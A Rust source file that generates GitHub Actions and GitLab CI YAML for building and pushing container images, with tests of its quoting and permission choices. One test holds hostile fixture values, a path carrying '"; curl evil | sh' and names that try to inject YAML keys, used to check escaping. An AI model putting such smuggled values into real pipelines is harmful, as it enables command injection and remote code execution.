//! The image pipeline the bot proposes, as typed models rendered to YAML: a GitHub Actions
//! workflow (`.github/workflows/nomad-spec-images.yml`) and a GitLab CI include
//! (`.gitlab/nomad-spec-images.yml`, with the `include:` line `.gitlab-ci.yml` needs).
//!
//! Both are built from the services to build (name, context, Dockerfile) and the registry
//! path, never pasted together from strings: a service name or a path is a YAML scalar the
//! serializer quotes, so nothing a repository holds can add a key or a step. The shape is the
//! one issue 17 settles on. On GitHub, a pull request builds each image with `push: false` in a
//! job that has no `packages` permission, no login step and no secret (so a fork's pull request
//! gets nothing to steal); a push to the default branch builds and pushes
//! `ghcr.io/<owner>/<repo>/<service>:<commit sha>` with `packages: write, contents: read`. On
//! GitLab, a merge request pipeline builds without pushing and a push to the default branch
//! pushes `$CI_REGISTRY_IMAGE/<service>:$CI_COMMIT_SHA` with the job's registry credentials.
//! The official actions are pinned to a major version.
//!
//! Which services are built, and where the bot reads the result back, is `images`'.

use std::collections::BTreeMap;

use serde::Serialize;

/// Where the GitHub workflow is committed.
pub const GITHUB_WORKFLOW_PATH: &str = ".github/workflows/nomad-spec-images.yml";

/// The workflow's name, which a `workflow_run` trigger of the bot's own workflow names.
pub const GITHUB_WORKFLOW_NAME: &str = "nomad-spec images";

/// Where the GitLab include is committed.
pub const GITLAB_INCLUDE_PATH: &str = ".gitlab/nomad-spec-images.yml";

/// GitLab's pipeline file, which must include [`GITLAB_INCLUDE_PATH`].
pub const GITLAB_CI_PATH: &str = ".gitlab-ci.yml";

/// The prefix of every GitLab job of the include; the job that pushes a service's image is
/// this prefix and the service's name.
pub const GITLAB_JOB_PREFIX: &str = "nomad-spec-image-";

/// The official actions, each pinned to a major version.
pub const CHECKOUT: &str = "actions/checkout@v4";
pub const SETUP_BUILDX: &str = "docker/setup-buildx-action@v3";
pub const LOGIN: &str = "docker/login-action@v3";
pub const BUILD_PUSH: &str = "docker/build-push-action@v6";

/// The Docker image of the GitLab jobs, and its daemon.
const GITLAB_DOCKER: &str = "docker:27";
const GITLAB_DIND: &str = "docker:27-dind";

/// A service whose image the pipeline builds.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BuiltImage {
    /// The service's name: the last part of the image's path and of the job's name.
    pub service: String,
    /// The build context, relative to the repository (`.` for the root).
    pub context: String,
    /// The Dockerfile, relative to the repository.
    pub dockerfile: String,
    /// The stage to build (compose's `build.target`), when one is named.
    pub target: Option<String>,
}

/// A GitHub Actions workflow, as much of one as the pipeline uses.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct GitHubWorkflow {
    pub name: String,
    pub on: GitHubTriggers,
    pub permissions: BTreeMap<String, String>,
    pub jobs: BTreeMap<String, GitHubJob>,
}

/// The events the workflow runs on.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct GitHubTriggers {
    pub push: GitHubPush,
    pub pull_request: GitHubPullRequest,
}

/// `on.push`: the default branch, except commits that only change job files (the bot's tag
/// bumps), which need no new image.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct GitHubPush {
    pub branches: Vec<String>,
    #[serde(rename = "paths-ignore", skip_serializing_if = "Vec::is_empty")]
    pub paths_ignore: Vec<String>,
}

/// `on.pull_request`: pull requests into the default branch.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct GitHubPullRequest {
    pub branches: Vec<String>,
}

/// One job.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct GitHubJob {
    pub name: String,
    #[serde(rename = "if")]
    pub condition: String,
    #[serde(rename = "runs-on")]
    pub runs_on: String,
    pub permissions: BTreeMap<String, String>,
    pub steps: Vec<GitHubStep>,
}

/// One step: an action and its inputs.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct GitHubStep {
    pub name: String,
    pub uses: String,
    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
    pub with: BTreeMap<String, StepInput>,
}

/// An input of a step: text or a flag (`push: false` is a YAML boolean).
#[derive(Debug, Clone, PartialEq, Serialize)]
#[serde(untagged)]
pub enum StepInput {
    Text(String),
    Flag(bool),
}

/// `dir/file` without a `./` or a doubled slash, as an action's input.
fn in_repository(path: &str) -> String {
    let path = path.trim_start_matches("./").trim_end_matches('/');
    if path.is_empty() {
        ".".into()
    } else {
        path.to_string()
    }
}

fn permissions(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
    pairs.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect()
}

fn text(value: impl Into<String>) -> StepInput {
    StepInput::Text(value.into())
}

/// The workflow that builds `images` on pull requests into `default_branch` and pushes them
/// to `registry` (`ghcr.io/acme/shop`, lower case) on pushes to it; `jobs_dir` is the folder
/// of the job files, whose changes alone build nothing.
pub fn github_workflow(
    images: &[BuiltImage],
    registry: &str,
    default_branch: &str,
    jobs_dir: &str,
) -> GitHubWorkflow {
    let mut jobs = BTreeMap::new();
    for image in images {
        let build_with = |push: bool| {
            let mut with = BTreeMap::from([
                ("context".to_string(), text(in_repository(&image.context))),
                ("file".to_string(), text(in_repository(&image.dockerfile))),
                ("push".to_string(), StepInput::Flag(push)),
            ]);
            if let Some(target) = &image.target {
                with.insert("target".into(), text(target.clone()));
            }
            if push {
                with.insert(
                    "tags".into(),
                    text(format!("{registry}/{}:${{{{ github.sha }}}}", image.service)),
                );
            }
            with
        };
        let checkout =
            GitHubStep { name: "check out".into(), uses: CHECKOUT.into(), with: BTreeMap::new() };
        let buildx = GitHubStep {
            name: "set up buildx".into(),
            uses: SETUP_BUILDX.into(),
            with: BTreeMap::new(),
        };
        // A pull request (a fork's too) builds with no secret and no write permission.
        jobs.insert(
            format!("build-{}", image.service),
            GitHubJob {
                name: format!("build {}", image.service),
                condition: "github.event_name == 'pull_request'".into(),
                runs_on: "ubuntu-latest".into(),
                permissions: permissions(&[("contents", "read")]),
                steps: vec![
                    checkout.clone(),
                    buildx.clone(),
                    GitHubStep {
                        name: "build without pushing".into(),
                        uses: BUILD_PUSH.into(),
                        with: build_with(false),
                    },
                ],
            },
        );
        jobs.insert(
            format!("push-{}", image.service),
            GitHubJob {
                name: format!("push {}", image.service),
                condition: "github.event_name == 'push'".into(),
                runs_on: "ubuntu-latest".into(),
                permissions: permissions(&[("contents", "read"), ("packages", "write")]),
                steps: vec![
                    checkout,
                    buildx,
                    GitHubStep {
                        name: "log in to the GitHub Container Registry".into(),
                        uses: LOGIN.into(),
                        with: BTreeMap::from([
                            ("registry".to_string(), text("ghcr.io")),
                            ("username".to_string(), text("${{ github.actor }}")),
                            ("password".to_string(), text("${{ secrets.GITHUB_TOKEN }}")),
                        ]),
                    },
                    GitHubStep {
                        name: "build and push".into(),
                        uses: BUILD_PUSH.into(),
                        with: build_with(true),
                    },
                ],
            },
        );
    }
    let jobs_dir = jobs_dir.trim_matches('/');
    GitHubWorkflow {
        name: GITHUB_WORKFLOW_NAME.into(),
        on: GitHubTriggers {
            push: GitHubPush {
                branches: vec![default_branch.to_string()],
                paths_ignore: if jobs_dir.is_empty() || jobs_dir == "." {
                    vec!["*.nomad.hcl".into()]
                } else {
                    vec![format!("{jobs_dir}/**")]
                },
            },
            pull_request: GitHubPullRequest { branches: vec![default_branch.to_string()] },
        },
        permissions: permissions(&[("contents", "read")]),
        jobs,
    }
}

/// One GitLab CI job of the include.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct GitLabJob {
    pub stage: String,
    pub image: String,
    pub services: Vec<String>,
    pub variables: BTreeMap<String, String>,
    pub rules: Vec<GitLabRule>,
    pub script: Vec<String>,
}

/// A `rules:` entry.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct GitLabRule {
    #[serde(rename = "if")]
    pub condition: String,
}

/// A shell word in double quotes, for a path a repository names (the serializer quotes the
/// YAML; this quotes the shell).
fn shell_word(value: &str) -> String {
    let escaped: String = value
        .chars()
        .flat_map(|c| match c {
            '"' | '\\' | '$' | '`' => vec!['\\', c],
            c => vec![c],
        })
        .collect();
    format!("\"{escaped}\"")
}

/// The include's jobs: per image, one that builds it for a merge request without pushing and
/// one that pushes it to `$CI_REGISTRY_IMAGE/<service>:$CI_COMMIT_SHA` on the default branch.
pub fn gitlab_include(images: &[BuiltImage]) -> BTreeMap<String, GitLabJob> {
    let mut jobs = BTreeMap::new();
    for image in images {
        let tag = format!("$CI_REGISTRY_IMAGE/{}:$CI_COMMIT_SHA", image.service);
        let target = image
            .target
            .as_ref()
            .map(|target| format!(" --target {}", shell_word(target)))
            .unwrap_or_default();
        let build = format!(
            "docker build --file {}{target} --tag \"{tag}\" {}",
            shell_word(&in_repository(&image.dockerfile)),
            shell_word(&in_repository(&image.context))
        );
        let job = |rule: &str, script: Vec<String>| GitLabJob {
            stage: "build".into(),
            image: GITLAB_DOCKER.into(),
            services: vec![GITLAB_DIND.into()],
            variables: BTreeMap::from([("DOCKER_TLS_CERTDIR".to_string(), "/certs".to_string())]),
            rules: vec![GitLabRule { condition: rule.into() }],
            script,
        };
        jobs.insert(
            format!("{GITLAB_JOB_PREFIX}{}-check", image.service),
            job("$CI_PIPELINE_SOURCE == \"merge_request_event\"", vec![build.clone()]),
        );
        jobs.insert(
            format!("{GITLAB_JOB_PREFIX}{}", image.service),
            job(
                "$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH && $CI_PIPELINE_SOURCE == \"push\"",
                vec![
                    "echo \"$CI_REGISTRY_PASSWORD\" | docker login --username \"$CI_REGISTRY_USER\" --password-stdin \"$CI_REGISTRY\"".into(),
                    build,
                    format!("docker push \"{tag}\""),
                ],
            ),
        );
    }
    jobs
}

/// A rendered file of the pipeline: a header saying who wrote it, then the YAML.
pub fn render<T: Serialize>(model: &T, what: &str) -> anyhow::Result<String> {
    let yaml = serde_saphyr::to_string(model)
        .map_err(|err| anyhow::anyhow!("cannot render the {what}: {err}"))?;
    Ok(format!(
        "# Written by nomad-spec: {what}. It builds the images of the services this repository\n\
         # builds and nothing publishes; the job files pin the image of the commit it built.\n{yaml}"
    ))
}

/// `.gitlab-ci.yml` with the include added: the file itself when it already includes it, a new
/// file when there is none, the line appended when the file has no `include:` yet; `None` when
/// it has an `include:` of its own, which only a person can extend without rewriting it.
pub fn gitlab_ci_with_include(existing: Option<&str>) -> Option<String> {
    let entry = format!("  - local: {GITLAB_INCLUDE_PATH}\n");
    match existing {
        None => Some(format!("include:\n{entry}")),
        Some(text) if text.contains(GITLAB_INCLUDE_PATH) => Some(text.to_string()),
        Some(text) if text.lines().any(|l| l.starts_with("include:")) => None,
        Some(text) => {
            let mut text = text.to_string();
            if !text.is_empty() && !text.ends_with('\n') {
                text.push('\n');
            }
            text.push_str(&format!("\ninclude:\n{entry}"));
            Some(text)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::Value;

    fn images() -> Vec<BuiltImage> {
        vec![
            BuiltImage {
                service: "web".into(),
                context: ".".into(),
                dockerfile: "Dockerfile".into(),
                target: None,
            },
            BuiltImage {
                service: "worker".into(),
                context: "./worker/".into(),
                dockerfile: "worker/Dockerfile".into(),
                target: Some("production".into()),
            },
        ]
    }

    /// The rendered workflow, read back as YAML: what GitHub will read.
    fn parsed_workflow() -> Value {
        let workflow = github_workflow(&images(), "ghcr.io/acme/shop", "main", "deploy");
        let text = render(&workflow, "the image workflow").unwrap();
        serde_saphyr::from_str(&text).unwrap()
    }

    #[test]
    fn the_workflow_runs_on_pull_requests_and_pushes_to_the_default_branch() {
        let doc = parsed_workflow();
        assert_eq!(doc["name"], GITHUB_WORKFLOW_NAME);
        assert_eq!(doc["on"]["push"]["branches"], serde_json::json!(["main"]));
        assert_eq!(doc["on"]["push"]["paths-ignore"], serde_json::json!(["deploy/**"]));
        assert_eq!(doc["on"]["pull_request"]["branches"], serde_json::json!(["main"]));
        let triggers: Vec<&String> = doc["on"].as_object().unwrap().keys().collect();
        assert_eq!(triggers, ["push", "pull_request"], "no pull_request_target, no workflow_run");
        assert_eq!(doc["permissions"], serde_json::json!({ "contents": "read" }));
    }

    #[test]
    fn a_push_pushes_each_image_tagged_with_the_commit_with_packages_write() {
        let doc = parsed_workflow();
        for (service, context, file) in
            [("web", ".", "Dockerfile"), ("worker", "worker", "worker/Dockerfile")]
        {
            let job = &doc["jobs"][format!("push-{service}")];
            assert_eq!(job["if"], "github.event_name == 'push'");
            assert_eq!(
                job["permissions"],
                serde_json::json!({"contents": "read", "packages": "write"})
            );
            let steps = job["steps"].as_array().unwrap();
            let uses: Vec<&str> = steps.iter().map(|s| s["uses"].as_str().unwrap()).collect();
            assert_eq!(uses, [CHECKOUT, SETUP_BUILDX, LOGIN, BUILD_PUSH]);
            for action in uses {
                let version = action.rsplit_once('@').unwrap().1;
                assert!(
                    version.starts_with('v') && version[1..].parse::<u32>().is_ok(),
                    "{action}"
                );
            }
            assert_eq!(steps[2]["with"]["registry"], "ghcr.io");
            let build = &steps[3]["with"];
            assert_eq!(build["push"], true);
            assert_eq!(build["context"], context);
            assert_eq!(build["file"], file);
            assert_eq!(build["tags"], format!("ghcr.io/acme/shop/{service}:${{{{ github.sha }}}}"));
            // The stage compose builds is the one pushed; none named, the last stage.
            match service {
                "worker" => assert_eq!(build["target"], "production"),
                _ => assert!(build.get("target").is_none()),
            }
        }
    }

    #[test]
    fn a_pull_request_builds_without_pushing_and_without_secrets() {
        let doc = parsed_workflow();
        for service in ["web", "worker"] {
            let job = &doc["jobs"][format!("build-{service}")];
            assert_eq!(job["if"], "github.event_name == 'pull_request'");
            assert_eq!(job["permissions"], serde_json::json!({ "contents": "read" }));
            let text = serde_json::to_string(job).unwrap();
            assert!(!text.contains("secrets."), "no secret in a pull request's job: {text}");
            assert!(!text.contains(LOGIN), "no login in a pull request's job: {text}");
            let steps = job["steps"].as_array().unwrap();
            let build = &steps.last().unwrap()["with"];
            assert_eq!(build["push"], false);
            assert!(build.get("tags").is_none());
            assert_eq!(build.get("target").is_some(), service == "worker", "the same stage");
        }
        assert_eq!(doc["jobs"].as_object().unwrap().len(), 4);
    }

    #[test]
    fn a_hostile_service_name_or_path_stays_a_scalar() {
        let images = vec![BuiltImage {
            service: "web\non: [workflow_run]".into(),
            context: "a: b\n- c".into(),
            dockerfile: "\"; curl evil | sh".into(),
            target: Some("x\n  push: true".into()),
        }];
        let workflow = github_workflow(&images, "ghcr.io/acme/shop", "main", "deploy");
        let text = render(&workflow, "the image workflow").unwrap();
        let doc: Value = serde_saphyr::from_str(&text).unwrap();
        let triggers: Vec<&String> = doc["on"].as_object().unwrap().keys().collect();
        assert_eq!(triggers, ["push", "pull_request"]);
        let job =
            doc["jobs"].as_object().unwrap().iter().find(|(name, _)| name.starts_with("build-"));
        let build = &job.unwrap().1["steps"].as_array().unwrap().last().unwrap()["with"];
        assert_eq!(build["push"], false, "a target is a scalar, never a key: {text}");
        let include = render(&gitlab_include(&images), "the image jobs").unwrap();
        let doc: Value = serde_saphyr::from_str(&include).unwrap();
        let script = doc[format!("{GITLAB_JOB_PREFIX}web\non: [workflow_run]")]["script"][1]
            .as_str()
            .unwrap()
            .to_string();
        assert!(script.contains("--file \"\\\"; curl evil | sh\""), "{script}");
        assert!(script.contains("--target \"x\n  push: true\""), "{script}");
    }

    #[test]
    fn the_gitlab_include_pushes_the_commit_image_only_from_the_default_branch() {
        let text = render(&gitlab_include(&images()), "the image jobs").unwrap();
        let doc: Value = serde_saphyr::from_str(&text).unwrap();
        let push = &doc["nomad-spec-image-worker"];
        assert_eq!(push["stage"], "build");
        assert_eq!(
            push["rules"][0]["if"],
            "$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH && $CI_PIPELINE_SOURCE == \"push\""
        );
        let script: Vec<&str> =
            push["script"].as_array().unwrap().iter().map(|s| s.as_str().unwrap()).collect();
        assert!(script[0].contains("$CI_REGISTRY_USER") && script[0].contains("--password-stdin"));
        assert_eq!(
            script[1],
            "docker build --file \"worker/Dockerfile\" --target \"production\" --tag \"$CI_REGISTRY_IMAGE/worker:$CI_COMMIT_SHA\" \"worker\""
        );
        assert_eq!(script[2], "docker push \"$CI_REGISTRY_IMAGE/worker:$CI_COMMIT_SHA\"");
        let check = &doc["nomad-spec-image-worker-check"];
        assert_eq!(check["rules"][0]["if"], "$CI_PIPELINE_SOURCE == \"merge_request_event\"");
        let check_text = serde_json::to_string(check).unwrap();
        assert!(
            !check_text.contains("docker push") && !check_text.contains("CI_REGISTRY_PASSWORD")
        );
    }

    #[test]
    fn gitlab_ci_gets_the_include_once() {
        assert_eq!(
            gitlab_ci_with_include(None).unwrap(),
            "include:\n  - local: .gitlab/nomad-spec-images.yml\n"
        );
        let mine = "stages: [build, deploy]\nbot:\n  script: [nomad-spec ci]";
        let with = gitlab_ci_with_include(Some(mine)).unwrap();
        let doc: Value = serde_saphyr::from_str(&with).unwrap();
        assert_eq!(doc["include"][0]["local"], GITLAB_INCLUDE_PATH);
        assert_eq!(doc["bot"]["script"][0], "nomad-spec ci");
        assert_eq!(gitlab_ci_with_include(Some(&with)).unwrap(), with, "added once");
        assert_eq!(gitlab_ci_with_include(Some("include:\n  - local: other.yml\n")), None);
    }
}
